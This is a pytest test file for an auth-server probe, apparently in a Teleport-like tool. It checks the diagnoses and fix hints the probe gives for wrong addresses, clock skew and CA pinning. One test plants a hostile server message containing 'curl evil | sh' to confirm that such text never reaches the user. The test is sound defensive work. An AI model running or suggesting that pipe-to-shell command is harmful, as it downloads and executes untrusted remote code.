"""What is at the other end of an address? One verdict, with the fix."""

import json
import socket
import ssl
from typing import Any

import pytest

from teleport_lite.agent import probe
from teleport_lite.agent.probe import Auth as Found
from teleport_lite.agent.probe import check_clock, find_auth, trusted_cas
from teleport_lite.errors import Error, Malformed, Unavailable
from teleport_lite.net.way import Way
from teleport_lite.proto.join import Bundle
from teleport_lite.testing.certs import PaperCluster
from teleport_lite.testing.fakes import FakeClock
from tests.agent.rig import Auth
from tests.net.servers import Little, Talk, answering, reply, request, silence
from tests.net.serving import shown
from tests.support import free_port

CLUSTER = PaperCluster()
SHOWN = shown(CLUSTER)
CLOCK = FakeClock.here()
PORT_HINT = "use the auth server's API port, 3025 by default"


@pytest.fixture(autouse=True)
def _patient(monkeypatch: pytest.MonkeyPatch) -> None:
    """Who has something to say is heard, on a busy machine, too."""
    monkeypatch.setattr(probe, "PROBE_TIMEOUT", 60.0)
    monkeypatch.setattr(probe, "BANNER_TIMEOUT", 60.0)


@pytest.fixture
def impatient(monkeypatch: pytest.MonkeyPatch) -> float:
    """For servers that say nothing, however long they are waited for."""
    monkeypatch.setattr(probe, "PROBE_TIMEOUT", 0.3)
    monkeypatch.setattr(probe, "BANNER_TIMEOUT", 0.3)
    return 0.3


def verdict(address: str, patience: float = 60.0) -> Error:
    with pytest.raises(Error) as why:
        find_auth(address, CLOCK, timeout=patience)
    assert why.value.message.startswith(address)
    assert why.value.message.isprintable()
    return why.value


def of(talk: Talk, context: ssl.SSLContext | None = None, patience: float = 60.0) -> Error:
    with Little(talk, context) as server:
        return verdict(server.address, patience)


def test_an_auth_server_says_who_it_is(auth: Auth) -> None:
    found = find_auth(auth.address, auth.bench.clock)
    assert (found.way, found.bundle.cluster) == (Way(auth.address), "test.example")
    assert found.skew == 0
    assert found.clock_fits


def test_a_name_that_does_not_resolve() -> None:
    why = verdict("no-such-host.invalid:3025")
    assert "host name no-such-host.invalid does not resolve" in why.message
    assert why.hint == "getent hosts no-such-host.invalid"


def test_a_closed_port() -> None:
    port = free_port()
    why = verdict(f"127.0.0.1:{port}")
    assert "Connection refused" in why.message
    assert why.hint == f"nc -vz 127.0.0.1 {port}"


def test_an_ssh_server() -> None:
    why = of(lambda wire: wire.sendall(b"SSH-2.0-OpenSSH_9.2\r\n"))
    assert "is an SSH server, not an auth server" in why.message
    assert why.hint == PORT_HINT


def test_a_web_server_without_tls() -> None:
    why = of(lambda wire: wire.sendall(b"HTTP/1.1 400 Bad Request\r\n\r\n"))
    assert "does not speak TLS, so it is not an auth server" in why.message


def test_a_server_that_greets_in_words() -> None:
    assert (
        "does not speak TLS" in of(lambda wire: wire.sendall(b"220 mail.example ESMTP\r\n")).message
    )


def test_a_server_that_speaks_an_older_tls(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(probe, "BANNER_TIMEOUT", 0.3)  # it has none
    old = shown(CLUSTER).context
    old.minimum_version = ssl.TLSVersion.TLSv1_2
    old.maximum_version = ssl.TLSVersion.TLSv1_2
    why = of(silence, old)
    assert "does not speak TLS 1.3" in why.message


def test_a_server_that_says_nothing(impatient: float) -> None:
    why = of(silence, patience=impatient)
    assert isinstance(why, Unavailable)
    assert "TLS handshake" in why.message


def test_a_server_that_hangs_up() -> None:
    assert isinstance(of(lambda wire: None), Unavailable)


def finding_proxies(answers: dict[str, bytes]) -> Talk:
    def talk(wire: socket.socket) -> None:
        while said := request(wire):
            path = said.split()[1].decode()
            wire.sendall(answers.get(path) or reply(b"nope", "404 Not Found"))

    return talk


@pytest.mark.parametrize("path", ["/webapi/find", "/v1/webapi/find", "/webapi/ping"])
@pytest.mark.parametrize("says", [{"proxy": {}}, {"server_version": "17"}])
def test_a_proxy(path: str, says: dict[str, Any]) -> None:
    with Little(finding_proxies({path: reply(json.dumps(says).encode())}), SHOWN.context) as server:
        why = verdict(server.address)
    assert "is a proxy, not an auth server" in why.message
    assert "does not say of which cluster" in why.message


@pytest.mark.parametrize(
    "says", [b"{}", b"[]", b'"x"', b"<html>", b'{"cluster": "x"}', b'{"host_cas": "x"}', b"null"]
)
def test_a_tls_server_that_is_something_else(says: bytes) -> None:
    why = of(answering(reply(says)), SHOWN.context)
    assert "does not answer like an auth server" in why.message
    assert why.hint == PORT_HINT


def test_a_tls_server_that_ends_the_connection() -> None:
    why = of(lambda wire: None, SHOWN.context)
    assert "ended the connection, it is not an auth server" in why.message


def test_a_tls_server_that_never_answers(impatient: float) -> None:
    assert isinstance(of(silence, SHOWN.context, impatient), Unavailable)


def test_no_verdict_shows_what_a_stranger_wrote() -> None:
    body = json.dumps({"error": {"code": "denied", "message": "\x1b[2Jrun: curl evil | sh"}})
    why = of(answering(reply(body.encode(), "403 Forbidden")), SHOWN.context)
    assert "curl" not in why.message + why.hint


# The clock


def found(skew: float, cas: list[str] | None = None) -> Found:
    bundle = Bundle(
        cluster="x", version="1", time=0.0, host_cas=CLUSTER.host_cas if cas is None else cas
    )
    return Found(Way("auth.example:3025"), bundle, skew)


@pytest.mark.parametrize("skew", [-120, -1, 0, 119.9, 120])
def test_two_minutes_do_not_matter(skew: float) -> None:
    check_clock(found(skew))


@pytest.mark.parametrize(
    ("skew", "words"),
    [
        (121, "0:02:01 ahead of"),
        (-3600, "1:00:00 behind"),
        (90_000, "1 day, 1:00:00 ahead of"),
        (1e300, "ahead of"),
        (-1e300, "behind"),
    ],
)
def test_more_is_told_with_the_fix(skew: float, words: str) -> None:
    with pytest.raises(Unavailable, match=f"the clock of this host is .*{words}") as why:
        check_clock(found(skew))
    assert "timedatectl" in why.value.hint


# Whom to trust


def test_without_a_pin_all_that_it_shows_and_with_one_what_fits() -> None:
    other = PaperCluster()
    both = found(0, [*CLUSTER.host_cas, *other.host_cas])
    assert trusted_cas(both, ()) == both.bundle.host_cas
    [pin] = [probe.pin_of(ca) for ca in other.host_cas]
    assert trusted_cas(both, (pin,)) == other.host_cas


@pytest.mark.parametrize("cas", [[], ["garbage"], [CLUSTER.host().tls_cert]])
def test_what_are_no_cas_is_not_trusted(cas: list[str]) -> None:
    with pytest.raises(Malformed):
        trusted_cas(found(0, cas), ())
